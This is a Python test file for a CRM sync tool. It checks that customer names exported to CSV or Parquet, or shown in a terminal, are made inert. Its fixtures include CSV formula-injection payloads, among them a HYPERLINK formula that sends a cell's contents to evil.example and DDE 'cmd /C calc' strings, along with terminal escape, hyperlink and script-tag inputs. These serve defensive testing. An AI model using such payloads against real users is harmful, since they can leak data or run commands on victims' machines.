"""Nothing that a customer's name holds is ever carried out: by a spreadsheet, a terminal, or markup."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import duckdb
import narwhals as nw
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from connector.model import FieldSpec
from sync import show
from sync.files import classify_files
from sync.mirror import Mirror, write_table
from sync.mirror.engine import DuckEngine
from sync.policy import load_policy
from sync.setup import Provision
from sync.verdicts import CLASSES

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Acme")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-",
    "=",
]
NAMES = ["张三", "a=b", "O'Neill & Co", "<b>Acme</b>", "1-2", "", "'=1", "3M"]
STARTS = "=+-@＝＋－＠"


def exported(folder: Path, names: list[str]) -> list[list[str]]:
    """What a spreadsheet finds in a CSV file of results about accounts of these names."""
    with Mirror(None) as mirror:
        rows = ", ".join(["(?, ?)"] * len(names))
        values = [value for n, name in enumerate(names) for value in (n, name)]
        mirror.run(f"CREATE TABLE given AS FROM (VALUES {rows}) AS t(place, name)", values)
        frame = nw.from_native(mirror.relation("SELECT place, name, -1.5 AS change FROM given"))
        DuckEngine(mirror).keep(frame.lazy(), "verdicts")
        write_table(mirror, "verdicts", folder / "out.csv")
    with (folder / "out.csv").open(encoding="utf-8", newline="") as lines:
        return list(csv.reader(lines))[1:]


@pytest.mark.fault("K5")
def test_what_begins_like_a_formula_becomes_a_text_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    rows = exported(tmp_path, FORMULAS + NAMES)
    assert [name for _, name, _ in rows] == [*(f"'{formula}" for formula in FORMULAS), *NAMES]
    assert {change for _, _, change in rows} == {"-1.5"}


@settings(max_examples=30)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=20))
def test_no_text_at_all_begins_like_a_formula(
    tmp_path_factory: pytest.TempPathFactory, names: list[str]
) -> None:
    cells = [name for _, name, _ in exported(tmp_path_factory.mktemp("csv"), names)]
    assert [cell.removeprefix("'") for cell in cells] == [name.removeprefix("'") for name in names]
    for cell in cells:
        assert not cell.strip("\0\ufeff \t\r\n").startswith(tuple(STARTS))
        assert not cell.startswith(("\t", "\r", "\n", "\0"))


def test_a_classification_of_files_is_inert_from_end_to_end(tmp_path: Path) -> None:
    accounts, deals = tmp_path / "accounts.csv", tmp_path / "deals.csv"
    accounts.write_text('id,Account_Name\n"=1+1",Acme\n"@2",Beta\n', "utf-8")
    head = "id,Account_Id,Deal_Name,Stage,Amount,Closing_Date\n"
    deals.write_text(head + "1,=1+1,Order,Closed Won,-5,2011-11-01\n", "utf-8")
    policy = load_policy(None, catalogue=CLASSES)
    for ending in ("csv", "parquet"):
        out = tmp_path / f"out.{ending}"
        classify_files(
            policy,
            accounts=accounts,
            deals=deals,
            as_of=date(2011, 12, 9),
            horizon_days=90,
            out=out,
        )
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as lines:
        assert {row["account_id"] for row in csv.DictReader(lines)} == {"'=1+1", "'@2"}
    kept = duckdb.sql(f"SELECT account_id FROM '{tmp_path / 'out.parquet'}'").fetchall()
    assert {row[0] for row in kept} == {"=1+1", "@2"}, "Parquet has types, so nothing is computed"


MARKUP = ["[bold red]Acme[/]", "[/]", "[link=http://evil.example]Acme[/link]", "<script>x</script>"]
STEERING = ["Acme\x1b[2J\x1b]8;;http://evil.example\x07", "Acme\x9b31m", "Acme\u202emca", "A\x07\r"]


@pytest.mark.fault("K7", "K8")
@pytest.mark.parametrize("name", [*MARKUP, *STEERING])
def test_a_terminal_shows_a_name_as_it_is_and_obeys_none_of_it(name: str) -> None:
    page = io.StringIO()
    console = Console(file=page, force_terminal=True, no_color=True, width=200)
    policy = load_policy(None, catalogue=CLASSES)
    row = {"name": name, "reason": name, "changes": [], "tasks": [f"Call {name}"]}
    show.planned_changes(console, [row], 1)
    task = {"Subject": name, "Description": name, "Due_Date": name, "Priority": "High"}
    console.print(show.zoho_card(name, {"reason": name}, policy, task=task))
    show.fields_to_create(console, Provision({"tier": FieldSpec(name, name, "text")}, {}, ()))
    told = page.getvalue()
    assert "\x1b]8" not in told
    assert "\x1b[2J" not in told
    assert not set(told) & set("\x07\x9b\u202e\r")
    if name in MARKUP:
        assert told.count(name) == 10
